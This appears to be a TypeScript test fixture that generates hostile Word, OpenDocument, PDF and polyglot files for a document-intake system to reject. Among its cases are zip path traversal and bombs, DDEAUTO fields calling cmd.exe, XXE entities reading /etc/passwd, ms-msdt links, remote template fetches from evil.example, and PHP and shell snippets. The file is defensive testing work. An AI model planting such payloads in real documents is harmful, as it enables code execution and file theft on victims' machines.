import { createRandom } from "./drawn.ts";
import {
  buildDocx,
  buildOdt,
  buildZip,
  docxFiles,
  odtFiles,
  relationship,
  type DocxParts,
  type Zipped,
} from "./build-document.ts";
import { buildPdf, objectStream, stream } from "./build-pdf.ts";
import { words } from "./words.ts";

/** Stands in what must be stored nowhere. */
export const EVIL = "Zq7evil";

/** A file that must be refused. */
export interface HostileDocument {
  what: string;
  content: Buffer;
}

type Named = [what: string, content: Buffer];

const BOMB = Buffer.alloc(20 * 1024 * 1024);

/** An extra field that gives a file another name, as Info-ZIP writes it. */
function otherName(name: string): Buffer {
  const field = Buffer.alloc(9);
  field.writeUInt16LE(0x7075, 0);
  field.writeUInt16LE(5 + name.length, 2);
  field[4] = 1;
  return Buffer.concat([field, Buffer.from(name)]);
}

function archives(files: (extra?: readonly Zipped[]) => Zipped[], kind: string): Named[] {
  const [first, ...others] = files();
  const with1 = (change: Partial<Zipped>) =>
    buildZip([{ ...(first ?? { name: "a", content: "" }), ...change }, ...others]);
  const whole = buildZip(files());
  const names = [
    "../../evil.xml",
    "word/../../evil.xml",
    "/etc/cron.d/evil.xml",
    "C:/evil.xml",
    String.raw`..\..\evil.xml`,
    "word//evil.xml",
    "./evil.xml",
    "evil\0.xml",
    "evil\u202Elmx.exe",
    `${"a".repeat(300)}.xml`,
    "",
  ];
  const all: Named[] = [
    ...names.map((name): Named => [
      `a path ${JSON.stringify(name).slice(0, 30)}`,
      buildZip(files([{ name, content: "<a/>" }])),
    ]),
    ["another name in its own header", with1({ ownName: "other.xml" })],
    ["another name in its extra field", with1({ extra: otherName("evil.xml") })],
    ["a wrong sum", with1({ crc: 1 })],
    ["a size that is too small", with1({ bytes: 3 })],
    ["a size that is too large", with1({ bytes: 900_000 })],
    ["a size beyond every limit", with1({ bytes: 0xfffffff0 })],
    ["the mark of a password", with1({ flags: 1 })],
    ["an unknown flag", with1({ flags: 0x2000 })],
    ["an unknown method", with1({ method: 14 })],
    ["bytes behind its compressed data", with1({ padding: EVIL, stored: false })],
    ["bytes between two files", with1({ gap: EVIL })],
    ["a comment", buildZip(files(), { comment: EVIL })],
    ["places beyond 4 GB", buildZip(files(), { zip64: true })],
    ["the same path twice", buildZip([...files(), ...files().slice(-1)])],
    [
      "the same path in capitals",
      buildZip(
        files([
          { name: "META-INF/MANIFEST.XML", content: "<a/>" },
          { name: "[CONTENT_TYPES].xml", content: "<a/>" },
        ]).concat({ name: "Mimetype", content: "a" }),
      ),
    ],
    ["bytes before it", Buffer.concat([Buffer.from(EVIL), whole])],
    ["bytes behind it", Buffer.concat([whole, Buffer.from(EVIL)])],
    ["itself behind it", Buffer.concat([whole, whole])],
    [
      "four bombs of 20 MB",
      buildZip(files([1, 2, 3, 4].map((n) => ({ name: `Pictures/${n}.png`, content: BOMB })))),
    ],
    [
      "three thousand files",
      buildZip(files(Array.from({ length: 3_000 }, (_, n) => ({ name: `Pictures/${n}.png`, content: "" })))),
    ],
    ["nothing else", buildZip([{ name: "readme.txt", content: EVIL }])],
    ...["<html><script>", "%PDF-1.7\n1 0 obj", "<?php ", "<svg onload=alert(1)>", "%!PS-Adobe"].map(
      (head): Named => [
        `a first file that begins with ${head.slice(0, 8)}`,
        buildZip([{ name: "Pictures/a.png", content: head, stored: true }, ...files()]),
      ],
    ),
    ...Array.from({ length: 50 }, (_, n): Named => [
      `only ${n * 2} % of it`,
      whole.subarray(0, Math.floor((whole.length * n) / 50)),
    ]),
  ];
  return all.map(([what, content]) => [`${kind}: ${what}`, content]);
}

const WORD = (extra: readonly Zipped[] = []) => docxFiles({ files: extra });
const OPEN = (extra: readonly Zipped[] = []) => odtFiles({ files: extra });

function wordDocuments(): Named[] {
  const part = (name: string, content = "<a/>"): DocxParts => ({ files: [{ name, content }] });
  const type = (name: string): DocxParts => ({
    types: `<Override PartName="/word/x.xml" ContentType="${name}"/>`,
  });
  const linked = (kind: string, target: string, mode?: string): DocxParts => ({
    links: relationship(kind, target, mode),
  });
  const field = (...pieces: string[]): DocxParts => ({
    body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  });
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const says = (words: string) => `<w:r><w:instrText>${words}</w:instrText></w:r>`;
  const quote = says(" QUOTE 68 68 69 ");
  const whole = mark("begin") + quote + mark("separate") + mark("end");
  const quoted = [
    mark("begin") + whole + says(" cmd ") + mark("end"),
    mark("begin") + says(" D") + mark("begin") + quote + mark("end") + says(" cmd ") + mark("end"),
    `${mark("begin")}<w:fldSimple w:instr=" QUOTE 68 68 69 "/>${says(" cmd ")}${mark("end")}`,
  ];
  const text = (content: string | Buffer): DocxParts => ({ changed: { "word/document.xml": { content } } });
  const macroTypes = ["document", "template"].map(
    (kind) => `application/vnd.ms-word.${kind}.macroEnabled.main+xml`,
  );
  const others = ["template", "glossary"].map(
    (kind) => `application/vnd.openxmlformats-officedocument.wordprocessingml.${kind}.main+xml`,
  );
  const cases: [string, DocxParts][] = [
    ...words`
      word/vbaProject.bin word/VBAPROJECT.BIN word/vbaData.xml vbaProject.xml word/activeX/activeX1.xml
      word/customizations.xml customUI/macros.xml word/embeddings/sheet.xlsx word/embeddings/oleObject1.bin
      evil.exe word/evil.js word/evil.html word/evil.rtf evil word/media/evil.bat word/media/a.png.lnk
      word/inner.docx word/afchunk.mht word/altChunk1.xml`.map((name): [string, DocxParts] => [
      name,
      part(name, EVIL),
    ]),
    ...macroTypes.map((main): [string, DocxParts] => [main.slice(24), { main }]),
    ...others.map((main): [string, DocxParts] => [main.slice(-30), { main }]),
    ["a sheet", { main: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" }],
    ...words`
      application/vnd.ms-office.vbaProject application/vnd.ms-office.activeX+xml
      application/vnd.openxmlformats-officedocument.oleObject text/html message/rfc822
      application/x-msdownload application/vnd.ms-word.keyMapCustomizations+xml`.map(
      (name): [string, DocxParts] => [`a part of the type ${name}`, type(name)],
    ),
    ...words`
      image oleObject attachedTemplate frame subDocument externalLinkPath aFChunk stylesheet`.flatMap(
      (kind) =>
        [
          "https://evil.example/x",
          String.raw`\\evil.example\x`,
          "file://evil.example/x",
          "smb://evil.example/x",
        ].map((target): [string, DocxParts] => [`${kind} at ${target}`, linked(kind, target)]),
    ),
    ["a picture elsewhere that says it is within", linked("image", "https://evil.example/x.png", "Internal")],
    ...["vbaProject", "oleObject", "aFChunk", "control", "package", "subDocument"].map(
      (kind): [string, DocxParts] => [`${kind} within`, linked(kind, "x.xml", "Internal")],
    ),
    ...[
      "javascript:alert(1)",
      "vbscript:x",
      "ms-msdt:/id PCWDiagnostic",
      "file:///C:/Windows/calc.exe",
      String.raw`\\evil\share`,
      "//evil.example/x",
      "search-ms:query=x",
      "data:text/html,x",
      "ms-word:ofe|u|https://evil.example/x",
    ].map((target): [string, DocxParts] => [`a link to ${target}`, linked("hyperlink", target)]),
    ["DDE", field(' DDE "cmd" "/c calc" ')],
    ["DDEAUTO", field(" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot; ")],
    ["DDE in small letters", field(" ddeauto cmd ")],
    ["DDE in pieces", field("D", "DE", "AUTO", " cmd")],
    ["DDE with entities", field("&#68;DE cmd")],
    ["DDE in an attribute", { body: '<w:fldSimple w:instr=" DDEAUTO cmd "/>' }],
    ["DDE without marks", { body: "<w:instrText>DDE cmd</w:instrText>" }],
    ...quoted.map((body, at): [string, DocxParts] => [`DDE that a field in it writes, way ${at}`, { body }]),
    [
      "a shape's picture elsewhere",
      { body: '<v:shape><v:imagedata src="https://evil.example/x.png"/></v:shape>' },
    ],
    [
      "a shape's picture on a server",
      { body: String.raw`<v:shape><v:imagedata o:href="\\evil\x.png"/></v:shape>` },
    ],
    [
      "an SVG that fetches",
      part("word/media/a.svg", '<svg><image xlink:href="https://evil.example/x.png"/></svg>'),
    ],
    ["a picture that a field fetches", field(' INCLUDEPICTURE "https://evil.example/x.png" ')],
    ["a text that a field fetches", field(String.raw` INCLUDETEXT "\\evil\x.docx" `)],
    ["an object", { body: "<w:object><o:OLEObject xmlns:o='o' Type='Embed'/></w:object>" }],
    ["a chunk", { body: '<w:altChunk r:id="x"/>' }],
    ["a control", { body: '<w:control r:id="x"/>' }],
    ["entities", text(`<!DOCTYPE a [<!ENTITY b "${EVIL}">]><a>&b;</a>`)],
    ["entities of the system", text(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`)],
    ["UTF-16", text(Buffer.from(`\uFEFF<a>${EVIL}</a>`, "utf16le"))],
    ["UTF-7", text('<?xml version="1.0" encoding="UTF-7"?><a/>')],
    ["bytes that are no UTF-8", text(Buffer.from("<a>\xff\xfe</a>", "latin1"))],
    ["a NUL", text("<a>\0</a>")],
    ["no XML", text(EVIL)],
    [
      "relationships in capitals",
      part("word/_rels/styles.xml.RELS", relationship("image", "https://evil.example/x")),
    ],
    ...['Override PartName="/word/media/a.png"', 'Default Extension="png"'].map(
      (named): [string, DocxParts] => [
        `a picture whose type is XML, by ${named}`,
        { types: `<${named} ContentType="application/xml"/>` },
      ],
    ),
    ["an SVG with a script", part("word/media/a.svg", "<svg><script>alert(1)</script></svg>")],
    ["an SVG with an event", part("word/media/a.svg", '<svg onload="alert(1)"/>')],
  ];
  return cases.map(([what, parts]) => [`Word: ${what}`, buildDocx(parts)]);
}

function openDocuments(): Named[] {
  const part = (name: string, content = EVIL) => ({ files: [{ name, content }] });
  const cases: [string, Parameters<typeof buildOdt>[0]][] = [
    ...words`
      Basic/Standard/Module1.xml Basic/script-lc.xml Scripts/python/evil.py Dialogs/a.xml
      Configurations2/menubar/menubar.xml META-INF/macrosignatures.xml`.map(
      (name): [string, Parameters<typeof buildOdt>[0]] => [name, part(name)],
    ),
    ...[
      "Object 1/content.xml",
      "ObjectReplacements/Object 1",
      "evil.exe",
      "Pictures/evil.js",
      "evil.html",
      "content.xml.exe",
      "Pictures/evil.png.hta",
      "inner.odt",
    ].map((name): [string, Parameters<typeof buildOdt>[0]] => [name, part(name)]),
    ...[
      "application/vnd.oasis.opendocument.spreadsheet",
      "application/vnd.oasis.opendocument.text-template",
      "application/epub+zip",
      "application/vnd.sun.xml.writer",
      "",
    ].map((mimetype): [string, Parameters<typeof buildOdt>[0]] => [`the type ${mimetype}`, { mimetype }]),
    ["an SVG in capitals with a script", part("Pictures/a.SVG", `<svg><script>${EVIL}</script></svg>`)],
    ["a script", { scripts: '<office:script script:language="ooo:Basic">evil</office:script>' }],
    [
      "an event",
      {
        scripts:
          '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:evil?language=Basic&amp;location=document"/></office:event-listeners>',
      },
    ],
    ...[
      "macro:///Standard.Module1.Evil()",
      "vnd.sun.star.script:evil",
      "javascript:alert(1)",
      "file:///etc/passwd",
      String.raw`\\evil\x`,
      "//evil.example/x",
      "vnd.sun.star.UNO:x",
    ].map((target): [string, Parameters<typeof buildOdt>[0]] => [
      `a link to ${target}`,
      { body: `<text:p><text:a xlink:href="${target}">x</text:a></text:p>` },
    ]),
    ["a picture elsewhere", { body: '<draw:image xlink:href="https://evil.example/x.png"/>' }],
    [
      "a picture elsewhere beside one within",
      { body: '<draw:image xlink:href="https://evil.example/x" draw:href="Pictures/a.png"/>' },
    ],
    ...[
      "https://evil.example/x.ott",
      "file://evil.example/x.ott",
      "file:////evil.example/x.ott",
      "file:///%2Fevil.example/x.ott",
      String.raw`file:///\\evil.example\x.ott`,
      String.raw`\\evil.example\x.ott`,
      "//evil.example/x.ott",
      "vnd.sun.star.webdav://evil.example/x.ott",
    ].map((target): [string, Parameters<typeof buildOdt>[0]] => [
      `a template at ${target}`,
      { body: `<meta:template xlink:href="${target}"/>` },
    ]),
    ["a macro of the reader's own", { body: '<text:execute-macro text:name="Standard.Module1.Evil"/>' }],
    ["a section elsewhere", { body: '<text:section-source xlink:href="https://evil.example/x.odt"/>' }],
    ["an object", { body: '<draw:object xlink:href="./Object 1"/>' }],
    ["an OLE object", { body: '<draw:object-ole xlink:href="./Object 1"/>' }],
    ["a plugin", { body: '<draw:plugin xlink:href="x.swf"/>' }],
    ["an applet", { body: '<draw:applet xlink:href="x.jar"/>' }],
    ["a frame", { body: '<draw:floating-frame xlink:href="https://evil.example"/>' }],
    ["DDE", { body: '<text:dde-connection-decl office:dde-application="soffice"/>' }],
    ["DDE of a table", { body: '<office:dde-source office:dde-application="cmd"/>' }],
    [
      "a password",
      {
        manifest:
          '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>',
      },
    ],
    ["no text", { changed: { "content.xml": { name: "Pictures/a.png" } } }],
    [
      "entities",
      { changed: { "content.xml": { content: `<!DOCTYPE a [<!ENTITY b "${EVIL}">]><a>&b;</a>` } } },
    ],
  ];
  return cases.map(([what, parts]) => [`OpenDocument: ${what}`, buildOdt(parts)]);
}

/** The names with which a PDF runs, opens or sends something, each where a reader finds it and where one is hidden. */
function pdfs(): Named[] {
  const names = words`
    JavaScript JS Launch EmbeddedFile EmbeddedFiles FileAttachment GoToE RichMedia Rendition Movie Sound 3D
    XFA SubmitForm ImportData Encrypt`;
  return names.flatMap((name): Named[] => {
    const action = `<< /S /${name} /${name} (${EVIL}) >>`;
    const escaped = `#${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
    return [
      ["at the opening", buildPdf({ catalog: "/OpenAction 5 0 R", objects: [action] })],
      ["of nothing", buildPdf({ objects: [action] })],
      ["with an escape", buildPdf({ objects: [`<< /S /${escaped} /${escaped} (x) >>`] })],
      ["in an object stream", buildPdf({ objects: ["null", objectStream(5, action)] })],
      [
        "in a stream that is none",
        buildPdf({ objects: [stream("", Buffer.from(`5 0 obj\n${action}\nendobj`))] }),
      ],
    ].map(([where, content]): Named => [`PDF: ${name} ${String(where)}`, Buffer.from(content ?? "")]);
  });
}

/** Files with a random byte changed, of which what is accepted must be read as before. */
export function damagedDocuments(count: number): { what: string; content: Buffer }[] {
  const random = createRandom(7);
  const whole = [buildDocx(), buildOdt()];
  return Array.from({ length: count }, (_, n) => {
    const content = Buffer.from(whole[n % 2] ?? "");
    const at = Math.floor(random() * content.length);
    content[at] = Math.floor(random() * 256);
    return { what: `byte ${at} of document ${n % 2} changed`, content };
  });
}

/** Beginnings of other files, in front of and behind a document. */
function polyglots(): Named[] {
  const others = [
    "<!doctype html><script>alert(1)</script>",
    "GIF89a\x01\0\x01\0",
    "MZ\x90\0",
    "#!/bin/sh\nid\n",
    "\x7fELF",
    "Rar!\x1a\x07\0",
    "<?xml version='1.0'?><svg onload='alert(1)'/>",
    "7z\xbc\xaf\x27\x1c",
    "BM\0\0\0\0",
    "{\\rtf1 evil}",
    "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "<?php system('id'); ?>",
  ];
  return others.flatMap((other) =>
    [["Word", buildDocx()] as const, ["OpenDocument", buildOdt()] as const].flatMap(
      ([kind, document]): Named[] => [
        [
          `${kind} behind ${JSON.stringify(other).slice(0, 20)}`,
          Buffer.concat([Buffer.from(other, "latin1"), document]),
        ],
        [
          `${kind} before ${JSON.stringify(other).slice(0, 20)}`,
          Buffer.concat([document, Buffer.from(other, "latin1")]),
        ],
      ],
    ),
  );
}

/** Every document of which nothing may be stored. */
export function hostileDocuments(): HostileDocument[] {
  return [
    ...archives(WORD, "Word"),
    ...archives(OPEN, "OpenDocument"),
    ...wordDocuments(),
    ...openDocuments(),
    ...pdfs(),
    ...polyglots(),
  ].map(([what, content]) => ({ what, content }));
}
